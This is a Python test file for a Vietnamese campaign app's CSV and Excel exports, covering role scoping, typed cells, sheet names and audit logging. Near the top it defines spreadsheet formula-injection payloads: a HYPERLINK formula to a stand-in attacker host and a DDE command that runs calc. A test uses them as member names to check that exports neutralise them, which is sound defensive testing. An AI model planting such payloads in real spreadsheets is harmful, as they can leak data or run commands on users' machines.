"""Exports are scoped like the pages: leadership gets aggregates with "<5", never names; a lead
gets their own people's names only. Every export is read back with openpyxl and the csv module:
one header row in the reader's language, counts as integers, rates as percent numbers, times as
local datetimes, typed text that never runs as a formula, widths, a frozen header, full sheet
names; its values equal a recount from the database, and it is in the audit log."""

from __future__ import annotations

import csv
import io
import os
from collections import Counter
from datetime import datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from litestar.testing import AsyncTestClient
from openpyxl import load_workbook
from sqlalchemy import select

from coordinator.app import create_app
from coordinator.auth.models import AuditEvent
from coordinator.base import utcnow
from coordinator.campaigns import service as campaigns
from coordinator.campaigns.models import Assignment, Report
from coordinator.campaigns.reports import ReportRequest, record_report
from coordinator.organizations.models import Member, MemberClub, Organization
from coordinator.settings import read_settings
from tests.factories import _member, build_world
from tests.web.test_web_authorization import sign_in

HYPERLINK = '=HYPERLINK("http://evil.example/?x","click")'
DDE = "=cmd|' /C calc'!A0"
TZ = ZoneInfo("Asia/Ho_Chi_Minh")
COUNTS = ["assigned", "delivered", "acknowledged", "done", "declined", "expired", "unreachable"]
TASK_HEADER = {
    "vi": [
        "Đơn vị",
        "Tên",
        "Mã",
        "Trạng thái",
        "Nhận tin lúc",
        "Xác nhận lúc",
        "Làm xong lúc",
        "Đường dẫn minh chứng",
    ],
    "en": [
        "Organization",
        "Name",
        "Code",
        "Status",
        "Delivered at",
        "Acknowledged at",
        "Done at",
        "Proof links",
    ],
}


async def _launched(db, hostile: bool = False) -> tuple[Any, int]:
    world = await build_world(db)
    if hostile:
        for name in (HYPERLINK, DDE, "@SUM(1+1)", "-2+3", "+84 912"):
            world.member[name] = await _member(
                db, world.actor["admin"], world.org["district"], name
            )
    campaign_id = await world.campaign(proof=True)
    await campaigns.launch_campaign(db, world.actor["coordinator"], campaign_id)
    return world, campaign_id


async def _progress(world: Any, campaign_id: int) -> None:
    """Two tasks delivered, one of them acknowledged and done with a proof link."""
    async with world.db.write() as session:
        tasks = (
            await session.scalars(
                select(Assignment)
                .where(Assignment.campaign_id == campaign_id)
                .order_by(Assignment.id)
                .limit(2)
            )
        ).all()
        for task in tasks:
            task.status, task.delivered_at = "delivered", utcnow() - timedelta(minutes=30)
        first = tasks[0]
    for action, proof in (("acknowledged", None), ("done", "https://www.facebook.com/p/1")):
        await record_report(world.db, ReportRequest(first.id, first.member_id, action, None, proof))


async def _get(db, who: str, path: str, lang: str = "vi") -> Any:
    app = create_app(read_settings({**os.environ, "COORDINATOR_DATABASE_URL": db.url}))
    async with AsyncTestClient(app=app) as client:
        await sign_in(client, who)
        if lang != "vi":
            token = client.cookies["coordinator_csrf"]
            await client.post("/language", data={"lang": lang, "_csrf_token": token})
        return await client.get(path)


def read_csv(response: Any) -> list[list[str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads the Vietnamese text as UTF-8
    return list(csv.reader(io.StringIO(text[1:])))


def read_xlsx(response: Any) -> Any:
    assert response.status_code == 200, response.text
    book = load_workbook(io.BytesIO(response.content))  # not read-only: styles and views
    book.widths = _widths(response.content)
    return book


def _widths(content: bytes) -> dict[str, list[float]]:
    """Each sheet's column widths as written in its XML (openpyxl reports 13 for a default)."""
    import re
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        workbook = archive.read("xl/workbook.xml").decode()
        names = re.findall(r'<sheet [^>]*name="([^"]+)"', workbook)
        found = {}
        for index, name in enumerate(names, start=1):
            xml = archive.read(f"xl/worksheets/sheet{index}.xml").decode()
            cols = re.findall(r'<col [^>]*width="([0-9.]+)"[^>]*customWidth="1"', xml)
            found[name] = [float(w) for w in cols]
    return found


def check_sheet(sheet: Any, header: list[str]) -> list[tuple[Any, ...]]:
    """The layout every sheet shares; returns the data rows (values)."""
    assert sheet.freeze_panes == "A2"
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == header
    assert rows.count(rows[0]) == 1
    widths = sheet.parent.widths[sheet.title]
    assert len(widths) == len(header)
    for width, title, index in zip(widths, header, range(len(header)), strict=True):
        longest = max(len(str(row[index] or "")) for row in rows)
        assert min(longest, 58) <= width <= 62, (title, width, longest)
    return rows[1:]


async def _recount(db, campaign_id: int) -> dict[int, tuple[Assignment, Member, set[str]]]:
    async with db.read() as session:
        found = (
            await session.execute(
                select(Assignment, Member)
                .join(Member, Member.id == Assignment.member_id)
                .where(Assignment.campaign_id == campaign_id)
            )
        ).all()
        proofs = (await session.execute(select(Report.assignment_id, Report.proof_url))).all()
    links: dict[int, set[str]] = {}
    for task_id, url in proofs:
        if url:
            links.setdefault(task_id, set()).add(url)
    return {task.id: (task, member, links.get(task.id, set())) for task, member in found}


def _local(moment: datetime | None) -> datetime | None:
    return moment.astimezone(TZ).replace(tzinfo=None, microsecond=0) if moment else None


@pytest.mark.parametrize("lang", ["vi", "en"])
async def test_the_task_export_reads_back_typed_and_equal_to_the_database(db, lang):
    world, campaign_id = await _launched(db)
    await _progress(world, campaign_id)
    truth = await _recount(db, campaign_id)
    by_name = {m.display_name: (t, links) for t, m, links in truth.values()}
    book = read_xlsx(await _get(db, "coordinator", f"/campaigns/{campaign_id}/export/xlsx", lang))
    assert book.sheetnames == ["Cảnh giác lừa đảo trực tuyến"]  # the full campaign title
    rows = check_sheet(book.worksheets[0], TASK_HEADER[lang])
    assert len(rows) == len(truth)
    for row in rows:
        task, links = by_name[row[1]]
        assert row[4:7] == (
            _local(task.delivered_at),
            _local(task.acknowledged_at),
            _local(task.done_at),
        )
        assert set((row[7] or "").split()) == links
    done = [row for row in rows if row[6] is not None]
    assert len(done) == 1 and isinstance(done[0][6], datetime)
    assert done[0][7] == "https://www.facebook.com/p/1"

    table = read_csv(await _get(db, "coordinator", f"/campaigns/{campaign_id}/export/csv", lang))
    assert table[0] == TASK_HEADER[lang] and table.count(table[0]) == 1
    assert len(table) == 1 + len(truth)
    for row in table[1:]:
        task, links = by_name[row[1]]
        when = [datetime.fromisoformat(v) if v else None for v in row[4:7]]
        assert when == [
            _local(task.delivered_at),
            _local(task.acknowledged_at),
            _local(task.done_at),
        ]
        assert set(row[7].split()) == links


async def test_hostile_names_are_text_in_xlsx_and_quoted_in_csv(db):
    _, campaign_id = await _launched(db, hostile=True)
    response = await _get(db, "coordinator", f"/campaigns/{campaign_id}/export/xlsx")
    sheet = read_xlsx(response).worksheets[0]
    names = {}
    for (cell,) in sheet.iter_rows(min_row=2, min_col=2, max_col=2):
        names[cell.value] = cell
    for name in (HYPERLINK, DDE, "@SUM(1+1)", "-2+3", "+84 912"):
        cell = names[name]
        assert cell.data_type == "s", name  # a string, not a formula ("f")
        assert cell.quotePrefix is True
    assert b"<f>" not in _sheet_xml(response.content)
    table = read_csv(await _get(db, "coordinator", f"/campaigns/{campaign_id}/export/csv"))
    written = {row[1] for row in table[1:]}
    assert "'" + HYPERLINK in written and "'" + DDE in written
    assert {"'@SUM(1+1)", "'-2+3", "'+84 912"} <= written
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in table for v in r)


def _sheet_xml(content: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml")


async def test_leadership_gets_aggregates_without_names(db):
    world, campaign_id = await _launched(db, hostile=True)
    truth = await _recount(db, campaign_id)
    org_names = await _org_names(db)
    assigned = Counter(org_names[m.organization_id] for _, m, _ in truth.values())
    response = await _get(db, "leadership", f"/campaigns/{campaign_id}/export/csv")
    text = response.content.decode("utf-8-sig")
    assert "Đoàn viên" not in text and "HYPERLINK" not in text  # no member names
    table = read_csv(response)
    assert table[0][:3] == ["Đơn vị", "được giao", "đã gửi đến"]
    assert table.count(table[0]) == 1
    rows = {row[0]: row for row in table[1:]}
    assert rows["Huyện đoàn A"][1] == str(assigned["Huyện đoàn A"])  # 3 + 5 hostile: 8
    assert rows["Đoàn xã A1"][1:8] == ["<5"] * 7 and rows["Đoàn xã A1"][8] == ""
    book = read_xlsx(await _get(db, "leadership", f"/campaigns/{campaign_id}/export/xlsx"))
    sheet = book.worksheets[0]
    assert book.sheetnames == ["Đơn vị"]
    lines = check_sheet(sheet, table[0])
    for line in lines:
        assert isinstance(line[1], int) or line[1] == "<5"
        if isinstance(line[1], int):
            assert line[1] == assigned[line[0]]
    assert sheet.cell(row=2, column=9).number_format in ("0.0%", "General")
    period = await _get(db, "leadership", "/participation/export/csv")
    assert "Đoàn viên" not in period.content.decode("utf-8-sig")
    del world


async def _org_names(db) -> dict[int, str]:
    async with db.read() as session:
        return dict((await session.execute(select(Organization.id, Organization.name))).all())


async def test_the_period_export_holds_organizations_and_clubs_as_numbers(db):
    world, campaign_id = await _launched(db)
    await _progress(world, campaign_id)
    truth = await _recount(db, campaign_id)
    async with db.read() as session:
        club_members = set((await session.scalars(select(MemberClub.member_id))).all())
    book = read_xlsx(await _get(db, "coordinator", "/participation/export/xlsx"))
    assert book.sheetnames == ["Đơn vị", "Câu lạc bộ"]
    orgs = check_sheet(book["Đơn vị"], ["Đơn vị", "Cấp", *_vi(COUNTS), "Tỷ lệ (%)"])
    top = next(row for row in orgs if row[0] == "Tỉnh đoàn")
    done = sum(1 for t, _, _ in truth.values() if t.status == "done")
    assert top[1] == 0 and top[2] == len(truth) and top[5] == done
    assert all(isinstance(v, int) for v in top[1:9])
    assert top[9] == pytest.approx(done / len(truth)) and isinstance(top[9], float)
    top_row = 2 + orgs.index(top)  # "Đoàn khối ..." sorts before "Tỉnh đoàn" (Vietnamese order)
    assert book["Đơn vị"].cell(row=top_row, column=10).number_format == "0.0%"
    clubs = check_sheet(book["Câu lạc bộ"], _vi(["Club", *COUNTS, "Rate (%)"]))
    in_club = sum(1 for _, m, _ in truth.values() if m.id in club_members)
    assert clubs[0][0] == "CLB club" and clubs[0][1] == in_club
    table = read_csv(await _get(db, "coordinator", "/participation/export/csv"))
    assert table.count(table[0]) == 1 and table[0][0] == "Đơn vị"
    row = next(r for r in table if r[0] == "Tỉnh đoàn")
    assert int(row[2]) == len(truth) and float(row[9]) == round(100 * done / len(truth), 1)
    club_csv = read_csv(await _get(db, "coordinator", "/participation/export/csv?table=clubs"))
    assert club_csv[0][0] == "CLB" and int(club_csv[1][1]) == in_club


def _vi(ids: list[str]) -> list[str]:
    from coordinator.i18n import translate

    return [translate("vi", i) for i in ids]


async def test_every_export_is_audited_without_personal_data(db):
    world, campaign_id = await _launched(db)
    paths = [
        ("coordinator", f"/campaigns/{campaign_id}/export/csv"),
        ("lead", f"/campaigns/{campaign_id}/export/xlsx"),
        ("leadership", f"/campaigns/{campaign_id}/export/xlsx"),
        ("admin", "/participation/export/csv"),
        ("leadership", "/participation/export/xlsx"),
    ]
    for who, path in paths:
        assert (await _get(db, who, path)).status_code == 200
    async with db.read() as session:
        events = (
            await session.scalars(
                select(AuditEvent)
                .where(AuditEvent.action.startswith("export."))
                .order_by(AuditEvent.id)
            )
        ).all()
    assert [(e.actor_user_id, e.action, e.detail["format"]) for e in events] == [
        (world.user_id["coordinator"], "export.campaign", "csv"),
        (world.user_id["lead"], "export.campaign", "xlsx"),
        (world.user_id["leadership"], "export.campaign", "xlsx"),
        (world.user_id["admin"], "export.participation", "csv"),
        (world.user_id["leadership"], "export.participation", "xlsx"),
    ]
    assert events[0].detail["rows"] == 4 and events[1].detail["rows"] == 4  # d1-d3, c1
    assert events[0].object_type == "campaign" and events[0].object_id == campaign_id
    assert "Đoàn viên" not in str([e.detail for e in events])


async def test_a_lead_gets_the_names_of_their_own_people_only(db):
    _, campaign_id = await _launched(db)
    lead = (await _get(db, "lead", f"/campaigns/{campaign_id}/export/csv")).content.decode()
    coordinator = (
        await _get(db, "coordinator", f"/campaigns/{campaign_id}/export/csv")
    ).content.decode()
    for name in ("Đoàn viên d1", "Đoàn viên d2", "Đoàn viên d3", "Đoàn viên c1"):
        assert name in lead and name in coordinator
    outsider = await _get(db, "outsider-lead", f"/campaigns/{campaign_id}/export/csv")
    assert outsider.status_code == 404
    bad = await _get(db, "coordinator", f"/campaigns/{campaign_id}/export/pdf")
    assert bad.status_code in (400, 422)


async def _collect(stream: Any) -> list[bytes]:
    return [chunk async for chunk in stream]


async def test_a_long_csv_has_one_header_row_across_its_chunks():
    from coordinator.tallies.exports import Column, Table, csv_stream, rows_of

    columns = [Column("Organization"), Column("Assigned", "count"), Column("Rate (%)", "rate")]
    rows = [[f"Đơn vị {n}", n, n / 2000] for n in range(1, 1201)]  # three chunks of 500
    for lang, head in (("vi", "Đơn vị"), ("en", "Organization")):
        chunks = await _collect(csv_stream(Table("t", columns, rows_of(rows)), lang, TZ))
        assert len(chunks) >= 3
        assert chunks[0].startswith("\ufeff".encode()) and not chunks[1].startswith(b"\xef")
        text = b"".join(chunks).decode("utf-8-sig")
        table = list(csv.reader(io.StringIO(text)))
        assert table[0][0] == head and sum(1 for r in table if r == table[0]) == 1
        assert len(table) == 1 + len(rows)
        assert [int(r[1]) for r in table[1:]] == list(range(1, 1201))
        assert float(table[-1][2]) == 60.0


def test_sheet_names_are_full_when_they_fit_and_shortened_uniquely_when_not():
    from coordinator.tallies.exports import SHEET_TITLE_MAX, sheet_title

    taken: set[str] = set()
    assert sheet_title("Cảnh giác lừa đảo trực tuyến", taken) == "Cảnh giác lừa đảo trực tuyến"
    long = "Chiến dịch tuyên truyền phòng chống ma túy tháng mười hai"
    first, second = sheet_title(long, taken), sheet_title(long, taken)
    assert first != second and len(first) <= SHEET_TITLE_MAX and len(second) <= SHEET_TITLE_MAX
    assert first.endswith("…") and long.startswith(first[:-1].rstrip())
    assert second.endswith("(2)")
    assert sheet_title("a/b:c*d?[e]", taken) == "a b c d e"
    assert sheet_title("", taken) == "Export"


async def test_a_long_campaign_title_names_its_sheet_within_excels_limit(db):
    world, campaign_id = await _launched(db)
    title = "Chiến dịch tuyên truyền phòng chống ma túy: tháng mười hai / 2026"
    async with db.write() as session:
        from coordinator.campaigns.models import Campaign

        campaign = await session.get(Campaign, campaign_id)
        campaign.title = title
    book = read_xlsx(await _get(db, "coordinator", f"/campaigns/{campaign_id}/export/xlsx"))
    (name,) = book.sheetnames
    assert len(name) <= 31 and name.endswith("…") and name.startswith("Chiến dịch tuyên")
    rows = check_sheet(book.worksheets[0], TASK_HEADER["vi"])
    assert all(isinstance(r[1], str) for r in rows)
    del world


@pytest.mark.parametrize("who", ["leadership", "admin"])
async def test_the_period_export_reads_back_in_english_with_typed_cells(db, who):
    world, campaign_id = await _launched(db)
    await _progress(world, campaign_id)
    header = ["Organization", "Level", *COUNTS, "Rate (%)"]
    book = read_xlsx(await _get(db, who, "/participation/export/xlsx", "en"))
    assert book.sheetnames == ["Organizations", "Clubs"]
    rows = check_sheet(book["Organizations"], header)
    assert rows and all(isinstance(r[0], str) and isinstance(r[1], int) for r in rows)
    for row in rows:
        assert all(isinstance(v, int) or (who == "leadership" and v == "<5") for v in row[2:9])
        assert row[9] is None or isinstance(row[9], (int, float))  # 0.0 reads back as 0
    table = read_csv(await _get(db, who, "/participation/export/csv", "en"))
    assert table[0] == header and table.count(header) == 1
    assert [r[0] for r in table[1:]] == [r[0] for r in rows]
    for csv_row, xlsx_row in zip(table[1:], rows, strict=True):
        assert csv_row[2:9] == [str(v) for v in xlsx_row[2:9]]
